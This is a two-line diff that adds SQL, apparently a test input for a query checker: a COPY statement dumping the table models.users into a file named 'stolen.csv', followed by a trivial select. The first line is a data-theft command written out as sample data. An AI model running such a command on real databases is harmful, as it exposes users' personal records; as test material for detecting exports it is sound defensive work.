@@ -1,0 +1,2 @@
+copy models.users to 'stolen.csv';
+select 1 as a
